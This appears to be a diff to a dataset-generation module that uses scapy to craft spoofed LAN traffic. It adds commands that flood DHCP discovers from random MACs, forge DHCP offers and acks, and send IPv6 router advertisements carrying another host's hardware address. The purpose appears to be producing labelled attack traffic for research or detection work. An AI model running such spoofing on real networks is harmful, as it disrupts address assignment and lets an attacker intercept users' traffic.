@@ -20,8 +20,11 @@ from typing import Any
 
 from scapy.arch import get_if_hwaddr
 from scapy.config import conf
-from scapy.layers.inet import IP, TCP
+from scapy.layers.dhcp import BOOTP, DHCP
+from scapy.layers.inet import IP, TCP, UDP
+from scapy.layers.inet6 import ICMPv6ND_RA, ICMPv6NDOptSrcLLAddr, IPv6
 from scapy.layers.l2 import ARP, Ether
+from scapy.utils import mac2str
 
 INTERFACE = "eth0"
 BROADCAST = "ff:ff:ff:ff:ff:ff"
@@ -201,6 +204,47 @@ def arp_changes(arguments: argparse.Namespace) -> None:
         time.sleep(0.3)
 
 
+def dhcp(arguments: argparse.Namespace) -> None:
+    """So many clients ask for a lease; with ``--server`` it is offered, taken and confirmed."""
+    wire = conf.L2socket(iface=INTERFACE, promisc=False)
+    dice = random.Random(arguments.clients)  # noqa: S311
+    for number in range(arguments.clients):
+        mac = "02:" + ":".join(f"{dice.randrange(256):02x}" for _ in range(5))
+        server, leased = arguments.server, f"192.0.2.{101 + number % 100}"
+
+        def say(
+            kind: str, *options: Any, mac: str = mac, number: int = number, answer: bool = False
+        ) -> None:
+            boot = BOOTP(op=2 if answer else 1, chaddr=mac2str(mac), xid=number, flags=0x8000)
+            ends = IP(src=server if answer else "0.0.0.0", dst="255.255.255.255")  # noqa: B023, S104
+            ports = UDP(sport=67, dport=68) if answer else UDP(sport=68, dport=67)
+            if answer:
+                boot.yiaddr = leased  # noqa: B023
+            source = get_if_hwaddr(INTERFACE) if answer else mac
+            told = DHCP(options=[("message-type", kind), *options, "end"])
+            wire.send(Ether(src=source, dst=BROADCAST) / ends / ports / boot / told)
+
+        say("discover")
+        if server:
+            say("offer", ("server_id", server), answer=True)
+            say("request", ("requested_addr", leased), ("server_id", server))
+            say("ack", ("server_id", server), answer=True)
+        time.sleep(arguments.pause)
+
+
+def router(arguments: argparse.Namespace) -> None:
+    """A router's advertisements; ``--hardware``: another's hardware address in them."""
+    wire = conf.L2socket(iface=INTERFACE, promisc=False)
+    mac = arguments.hardware or mac_of("192.0.2.1")
+    time.sleep(arguments.wait)
+    for _ in range(arguments.rounds):
+        said = ICMPv6ND_RA(prf=arguments.preference, routerlifetime=arguments.lifetime)
+        packet = IPv6(src=arguments.address, dst="ff02::1", hlim=255) / said
+        packet /= ICMPv6NDOptSrcLLAddr(lladdr=mac)
+        wire.send(Ether(src=mac, dst="33:33:00:00:00:01") / packet)
+        time.sleep(arguments.pause)
+
+
 def main(argv: Sequence[str] | None = None) -> int:
     parser = argparse.ArgumentParser(prog="python -m datasets.recipe.spoof")
     commands = parser.add_subparsers(required=True)
@@ -220,6 +264,17 @@ def main(argv: Sequence[str] | None = None) -> int:
     spoof = command("arp-spoof", arp_spoof, "source", "target", "victim")
     spoof.add_argument("--rounds", type=int, default=12)
     command("arp-changes", arp_changes)
+    leases = command("dhcp", dhcp)
+    leases.add_argument("clients", type=int)
+    leases.add_argument("--server", default="")
+    leases.add_argument("--pause", type=float, default=0.01)
+    advertise = command("router", router, "address")
+    advertise.add_argument("--hardware", default="")
+    advertise.add_argument("--preference", type=int, default=0)
+    advertise.add_argument("--lifetime", type=int, default=1800)
+    advertise.add_argument("--rounds", type=int, default=3)
+    advertise.add_argument("--pause", type=float, default=0.2)
+    advertise.add_argument("--wait", type=float, default=0)
     arguments = parser.parse_args(argv)
     arguments.run(arguments)
     return 0
